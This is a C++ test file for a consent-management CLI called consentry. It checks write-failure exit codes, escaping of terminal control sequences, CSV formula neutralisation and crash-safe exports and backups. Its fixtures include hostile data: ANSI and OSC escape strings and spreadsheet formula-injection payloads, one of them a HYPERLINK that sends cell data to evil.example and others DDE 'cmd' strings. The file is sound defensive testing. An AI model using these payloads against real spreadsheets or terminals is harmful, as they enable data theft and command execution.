// cli_output_test.cpp: what the consentry command writes, run as separate processes: output that
// cannot be written fails the command, stored control characters cannot drive the terminal, CSV
// cells cannot run as spreadsheet formulas, and exports and backups killed at any moment leave
// nothing under the file's name nor any temporary that blocks or outlives the next run.
#include <doctest/doctest.h>
#include <fcntl.h>
#include <sys/file.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <filesystem>
#include <nlohmann/json.hpp>
#include <random>
#include <set>
#include <sstream>
#include <string>
#include <vector>

#include "support/cli_runner.hpp"
#include "support/files.hpp"
#include "support/passphrase.hpp"
#include "support/temp_dir.hpp"

namespace {

namespace fs = std::filesystem;
using consentry::test::CliOutput;
using consentry::test::CliRun;
using consentry::test::file_bytes;
using consentry::test::write_file;

const fs::path kData = fs::path(CONSENTRY_TEST_DATA) / "cli";
constexpr const char* kFf1Key = "2B7E151628AED2A6ABF7158809CF4F3C";

/// kHostile is a stored value full of what a terminal obeys: an ESC colour sequence, a CR that
/// returns to the start of the line, an LF followed by a forged table row, BEL, DEL, the C1
/// controls CSI (U+009B) and NEL (U+0085), an OSC window title, and non-ASCII text that must stay
/// readable.
const std::string kHostile =
    "Zo\u00eb \u5c71\u7530 \x1b[31mred\x1b[0m\rOVER\nnote    clear  FORGED\x07\x7f\xc2\x9b"
    "2J\xc2\x85"
    "\x1b]0;title\x07 end";

/// Vault is a vault in a fresh directory: the fixture policy plus a free-text `note` that the
/// service purpose reads in clear, and one customer whose note is `note`.
class Vault {
 public:
  explicit Vault(const std::string& note = kHostile) {
    nlohmann::json policy = nlohmann::json::parse(file_bytes(kData / "policy.json"));
    policy["fields"].push_back(
        {{"name", "note"}, {"type", "string"}, {"category", "service"}, {"access", {{"service", "clear"}}}});
    write_file(path("policy.json"), policy.dump(2));
    nlohmann::json line = {{"id", "C-1"},
                           {"source", "web-signup"},
                           {"collected_at", "2025-05-01T10:00:00Z"},
                           {"fields", {{"email", "ann@example.com"}, {"note", note}}}};
    write_file(path("note.jsonl"), line.dump() + "\n");
    REQUIRE_OK(run({"init", "--policy", path("policy.json").string(), "--kdf", "minimum"}));
    REQUIRE_OK(run({"import", path("note.jsonl").string()}));
    REQUIRE_OK(run({"import", (kData / "customers.jsonl").string()}));
  }

  fs::path path(const std::string& name) const { return dir_.path() / name; }
  fs::path vault() const { return path("crm.vault"); }
  const fs::path& dir() const { return dir_.path(); }

  /// run runs consentry on the vault with the passphrase; `run_options` may set stdin and stdout.
  CliOutput run(const std::vector<std::string>& args, const CliRun& run_options = {}) const {
    return consentry::test::run_consentry(dir_.path(), args, env(), run_options);
  }
  /// start starts consentry on the vault and returns at once.
  consentry::test::CliProcess start(const std::vector<std::string>& args) const {
    return consentry::test::start_consentry(dir_.path(), args, env());
  }

 private:
  consentry::test::CliEnv env() const {
    return {{"CONSENTRY_VAULT", vault().string()},
            {"CONSENTRY_PASSPHRASE", consentry::test::kTestPassphrase}};
  }
  static void REQUIRE_OK(const CliOutput& o) {
    INFO("stderr: " << o.err);
    REQUIRE(o.code == 0);
  }

  consentry::test::TempDir dir_{"consentry-cli-output"};
};

std::vector<std::string> lines_of(const std::string& text) {
  std::vector<std::string> lines;
  std::istringstream in(text);
  for (std::string line; std::getline(in, line);) lines.push_back(line);
  return lines;
}

bool contains(const std::string& text, const std::string& part) {
  return text.find(part) != std::string::npos;
}

/// terminal_controls lists the bytes and sequences a terminal obeys that `text` holds raw.
std::vector<std::string> terminal_controls(const std::string& text, bool allow_newline) {
  std::vector<std::string> found;
  for (std::size_t i = 0; i < text.size(); ++i) {
    const auto c = static_cast<unsigned char>(text[i]);
    if ((c < 0x20 && !(allow_newline && c == '\n')) || c == 0x7f)
      found.push_back("byte " + std::to_string(c));
    if (c == 0xC2 && i + 1 < text.size() && static_cast<unsigned char>(text[i + 1]) <= 0x9F)
      found.push_back("C1 control");
  }
  return found;
}

/// Printing is one command that prints on stdout, and the exit code it has when it can.
struct Printing {
  std::vector<std::string> args;
  int code = 0;
  std::string input;  ///< its stdin, when it reads one
};

/// staged_leftovers lists the files of `dir` whose name starts with ".<target>.partial-".
std::vector<std::string> staged_leftovers(const fs::path& dir, const std::string& target) {
  std::vector<std::string> names;
  const std::string prefix = "." + target + ".partial-";
  for (const auto& entry : fs::directory_iterator(dir)) {
    const std::string name = entry.path().filename().string();
    if (name.rfind(prefix, 0) == 0) names.push_back(name);
  }
  return names;
}

/// sleep_for_us sleeps `us` microseconds.
void sleep_for_us(long us) {
  timespec t{us / 1000000, (us % 1000000) * 1000};
  while (nanosleep(&t, &t) != 0) {
  }
}

/// run_time_us is how long one run of `args` takes, the median of three.
long run_time_us(const Vault& v, const std::vector<std::string>& args, const fs::path& remove_after) {
  std::vector<long> times;
  for (int i = 0; i < 3; ++i) {
    const auto start = std::chrono::steady_clock::now();
    const CliOutput o = v.run(args);
    times.push_back(static_cast<long>(
        std::chrono::duration_cast<std::chrono::microseconds>(std::chrono::steady_clock::now() - start)
            .count()));
    INFO("stderr: " << o.err);
    REQUIRE(o.code == 0);
    fs::remove(remove_after);
  }
  std::sort(times.begin(), times.end());
  return times[1];
}

}  // namespace

TEST_CASE("every command that prints exits 2 naming stdout when its output cannot be written") {
  Vault v;
  const std::string hand = std::string(CONSENTRY_TEST_DATA) + "/anonymise/hand.csv";
  const std::vector<Printing> commands = {
      {{"--help"}},
      {{"policy", "check", (kData / "policy.json").string()}},
      {{"policy", "show"}},
      {{"policy", "show", "--json"}},
      {{"import", (kData / "customers.csv").string()}},
      {{"consent", "grant", "C-1001", "marketing.email", "--channel", "web"}},
      {{"consent", "show", "C-1001"}},
      {{"consent", "show", "C-1001", "--json"}},
      {{"read", "C-1", "--purpose", "service", "--as", "support-desk"}},
      {{"read", "C-1", "--purpose", "service", "--as", "support-desk", "--json"}},
      // A read that denies some fields exits 3; unwritten output turns that into 2 as well.
      {{"read", "C-1002", "--purpose", "marketing.email", "--as", "email-campaigns"}, 3},
      {{"log", "verify"}},
      {{"log", "show"}},
      {{"log", "show", "--json"}},
      {{"log", "checkpoint"}},
      {{"audit", "C-1"}},
      {{"audit", "C-1", "--json"}},
      {{"inventory"}},
      {{"inventory", "--json"}},
      {{"keys", "status"}},
      {{"keys", "status", "--json"}},
      {{"export", "C-1"}},
      {{"export", "C-1", "--format", "html"}},
      {{"export", "C-1", "--format", "csv"}},
      {{"contact", "C-1001", "--channel", "sms", "--purpose", "service"}},
      {{"purge", "--dry-run"}},
      {{"stats", "count", "email", "--purpose", "analytics", "--epsilon", "0.1"}},
      {{"anonymise", "--input", hand, "--quasi", "age,zip", "--k", "2", "--hierarchies",
        std::string(CONSENTRY_TEST_DATA) + "/anonymise"}},
      {{"ff1", "encrypt", "--key", kFf1Key, "--alphabet", "0123456789"}, 0, "0123456789\n"},
      {{"ff1", "decrypt", "--key", kFf1Key, "--alphabet", "0123456789"}, 0, "0123456789\n"},
      {{"backup", v.path("backup.vault").string()}},
      {{"keys", "rotate"}},
      {{"erase", "C-1002", "--reason", "test"}},
  };
  for (const Printing& p : commands) {
    std::string shown;
    for (const std::string& a : p.args) shown += a + " ";
    CAPTURE(shown);
    CliRun with_input;
    if (!p.input.empty()) with_input.input = p.input;
    const std::string command = p.args[0] + (p.args.size() > 1 ? " " + p.args[1] : "");
    const bool mutates = p.args[0] == "import" || command == "consent grant" || p.args[0] == "contact" ||
                         p.args[0] == "backup" || command == "keys rotate" || p.args[0] == "erase";
    if (!mutates) {
      // With a writable stdout the command succeeds and prints something, so the failure below is
      // the output's.
      const CliOutput fine = v.run(p.args, with_input);
      INFO("stderr: " << fine.err);
      CHECK(fine.code == p.code);
      CHECK_FALSE(fine.out.empty());
    }
    CliRun full = with_input;
    full.stdout_path = "/dev/full";
    const CliOutput o = v.run(p.args, full);
    INFO("stderr: " << o.err);
    CHECK(o.code == 2);
    CHECK(contains(o.err, "consentry: error: cannot write to stdout: No space left on device"));
  }
}

TEST_CASE("an export longer than the output buffer exits 2 when stdout fills up mid-way") {
  Vault v(std::string(65000, 'x'));
  const CliOutput exported = v.run({"export", "C-1"});
  REQUIRE(exported.code == 0);
  REQUIRE(exported.out.size() > 65536);  // more than the command buffers: the first write fails
  CliRun full;
  full.stdout_path = "/dev/full";
  const CliOutput o = v.run({"export", "C-1"}, full);
  CHECK(o.code == 2);
  CHECK(contains(o.err, "consentry: error: cannot write to stdout: No space left on device"));
}

TEST_CASE("read prints stored control characters as visible escapes and keeps other text readable") {
  Vault v;
  const CliOutput o = v.run({"read", "C-1", "--purpose", "service", "--as", "support-desk"});
  INFO("stdout: " << o.out);
  REQUIRE(o.code == 0);
  CHECK(terminal_controls(o.out, /*allow_newline=*/true).empty());
  // The header and one row per field: the LF in the value forges no row.
  const std::vector<std::string> lines = lines_of(o.out);
  CHECK(lines.size() == 1 + 5);
  CHECK_FALSE(contains(o.out, "\nnote    clear  FORGED"));
  CHECK(contains(o.out,
                 "Zo\u00eb \u5c71\u7530 \\x1b[31mred\\x1b[0m\\x0dOVER\\x0anote    clear  FORGED\\x07\\x7f"
                 "\\xc2\\x9b2J\\xc2\\x85\\x1b]0;title\\x07 end"));
}

TEST_CASE("policy show prints the controller's name and contact as visible escapes") {
  Vault v;
  nlohmann::json policy = nlohmann::json::parse(file_bytes(v.path("policy.json")));
  policy["controller"] = {{"name", kHostile}, {"contact", "privacy@example.com\x1b[2J"}};
  write_file(v.path("hostile.json"), policy.dump(2));
  const std::string second = v.path("second.vault").string();
  const CliOutput init =
      v.run({"--vault", second, "init", "--policy", v.path("hostile.json").string(), "--kdf", "minimum"});
  INFO("init stderr: " << init.err);
  REQUIRE(init.code == 0);
  const CliOutput o = v.run({"--vault", second, "policy", "show"});
  INFO("stdout: " << o.out);
  REQUIRE(o.code == 0);
  CHECK(terminal_controls(o.out, /*allow_newline=*/true).empty());
  CHECK(contains(o.out, "controller: Zo\u00eb \u5c71\u7530 \\x1b[31mred\\x1b[0m\\x0dOVER\\x0anote"));
  CHECK(contains(o.out, "<privacy@example.com\\x1b[2J>"));
}

TEST_CASE("read --json keeps a value with control characters exact in valid JSON") {
  Vault v;
  const CliOutput o = v.run({"read", "C-1", "--purpose", "service", "--as", "support-desk", "--json"});
  REQUIRE(o.code == 0);
  // One line, and nothing a terminal obeys: C0 controls, DEL and C1 controls are \u escapes.
  CHECK(terminal_controls(o.out, /*allow_newline=*/true).empty());
  CHECK(lines_of(o.out).size() == 1);
  const nlohmann::json j = nlohmann::json::parse(o.out);
  CHECK(j["fields"]["note"]["value"].get<std::string>() == kHostile);
  CHECK(contains(o.out, "Zo\u00eb \u5c71\u7530"));
}

TEST_CASE("a CSV export neutralises cells that a spreadsheet would run as formulas") {
  for (const std::string& value :
       {std::string("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"), std::string("+cmd|' /C calc'!A0"),
        std::string("@SUM(1+1)*cmd|' /C calc'!A0"), std::string("-2+3+cmd|' /C calc'!A0"),
        std::string("\t=1+1"), std::string("\r=1+1")}) {
    CAPTURE(value);
    Vault v(value);
    const CliOutput o = v.run({"export", "C-1", "--format", "csv"});
    REQUIRE(o.code == 0);
    std::string quoted = "\"'";
    for (char c : value) quoted += c == '"' ? std::string("\"\"") : std::string(1, c);
    quoted += '"';
    CHECK(contains(o.out, "\r\nnote," + quoted + ",string,"));
  }
}

TEST_CASE("an export killed at random moments leaves no temporary behind once a later export succeeds") {
  Vault v;
  const fs::path target = v.path("e.html");
  const std::vector<std::string> args{"export", "C-1", "--format", "html", "-o", target.string()};
  const long took = run_time_us(v, args, target);
  // Files that only look alike are never touched: another file's temporaries, a name of another
  // shape, and a temporary that a running process holds locked.
  const std::vector<std::string> bystanders = {".e.html.partial-abc", ".e.html.partial-abcdefg",
                                               "e.html.partial", ".f.html.partial-abcdef",
                                               ".e.html.partial-ab.def"};
  for (const std::string& name : bystanders) write_file(v.path(name), "not ours");
  const fs::path held = v.path(".e.html.partial-Held01");
  write_file(held, "a run in progress");
  const int held_fd = ::open(held.c_str(), O_RDONLY | O_CLOEXEC);
  REQUIRE(held_fd >= 0);
  REQUIRE(::flock(held_fd, LOCK_EX) == 0);

  std::mt19937_64 random(20250501);
  int killed_mid_way = 0;
  for (int i = 0; i < 300 && (i < 40 || killed_mid_way < 3); ++i) {
    auto process = v.start(args);
    sleep_for_us(static_cast<long>(random() % static_cast<unsigned long>(took + took / 4 + 1)));
    const bool killed = process.kill_and_wait();
    // The file is there complete, or not at all.
    if (fs::exists(target)) {
      CHECK(contains(file_bytes(target), "</html>\n"));
      fs::remove(target);
    }
    for (const std::string& name : staged_leftovers(v.dir(), "e.html")) {
      if (name == held.filename().string() ||
          std::find(bystanders.begin(), bystanders.end(), name) != bystanders.end())
        continue;
      CHECK((fs::status(v.path(name)).permissions() & fs::perms::all) ==
            (fs::perms::owner_read | fs::perms::owner_write));
      if (killed) ++killed_mid_way;
    }
  }
  INFO("runs killed while their temporary existed: " << killed_mid_way);
  CHECK(killed_mid_way > 0);

  const CliOutput o = v.run(args);
  INFO("stderr: " << o.err);
  REQUIRE(o.code == 0);
  CHECK(contains(file_bytes(target), "</html>\n"));
  std::set<std::string> left;
  for (const std::string& name : staged_leftovers(v.dir(), "e.html")) left.insert(name);
  std::set<std::string> expected = {held.filename().string()};
  for (const std::string& name : bystanders)
    if (name.rfind(".e.html.partial-", 0) == 0) expected.insert(name);
  CHECK(left == expected);
  CHECK(fs::exists(v.path("e.html.partial")));
  CHECK(fs::exists(v.path(".f.html.partial-abcdef")));

  // Once its process lets go of it, the held temporary is stale and goes with the next export.
  ::close(held_fd);
  REQUIRE(v.run(args).code == 0);
  CHECK_FALSE(fs::exists(held));
}

TEST_CASE("a backup killed at random moments leaves no file under its name and never blocks the next") {
  Vault v;
  // Enough customers that the copy takes a while.
  std::string lines;
  for (int i = 0; i < 1500; ++i) {
    lines += "{\"id\": \"B-" + std::to_string(i) +
             "\", \"source\": \"web-signup\", \"fields\": {\"email\": \"b" + std::to_string(i) +
             "@example.com\", \"note\": \"" + std::string(200, 'n') + "\"}}\n";
  }
  write_file(v.path("many.jsonl"), lines);
  REQUIRE(v.run({"import", v.path("many.jsonl").string()}).code == 0);
  const fs::path target = v.path("b.vault");
  const std::vector<std::string> args{"backup", target.string()};
  const long took = run_time_us(v, args, target);

  std::mt19937_64 random(20250502);
  int killed_mid_way = 0;
  for (int i = 0; i < 300 && (i < 40 || killed_mid_way < 3); ++i) {
    auto process = v.start(args);
    sleep_for_us(static_cast<long>(random() % static_cast<unsigned long>(took + took / 4 + 1)));
    const bool killed = process.kill_and_wait();
    if (fs::exists(target)) {
      // A backup under the name is a complete vault.
      const CliOutput verified = consentry::test::run_consentry(
          v.dir(), {"keys", "status"},
          {{"CONSENTRY_VAULT", target.string()}, {"CONSENTRY_PASSPHRASE", consentry::test::kTestPassphrase}});
      INFO("stderr: " << verified.err);
      CHECK(verified.code == 0);
      fs::remove(target);
    }
    if (killed && !staged_leftovers(v.dir(), "b.vault").empty()) ++killed_mid_way;
  }
  INFO("runs killed while their temporary existed: " << killed_mid_way);
  CHECK(killed_mid_way > 0);

  const CliOutput o = v.run(args);
  INFO("stderr: " << o.err);
  REQUIRE(o.code == 0);
  CHECK(staged_leftovers(v.dir(), "b.vault").empty());
  CHECK((fs::status(target).permissions() & fs::perms::all) ==
        (fs::perms::owner_read | fs::perms::owner_write));
  const CliOutput verified = consentry::test::run_consentry(
      v.dir(), {"log", "verify"},
      {{"CONSENTRY_VAULT", target.string()}, {"CONSENTRY_PASSPHRASE", consentry::test::kTestPassphrase}});
  CHECK(verified.code == 0);
  // The name is taken now: the next backup to it is refused, and leaves no temporary either.
  const CliOutput again = v.run(args);
  CHECK(again.code == 2);
  CHECK(contains(again.err, "already exists"));
  CHECK(staged_leftovers(v.dir(), "b.vault").empty());
}
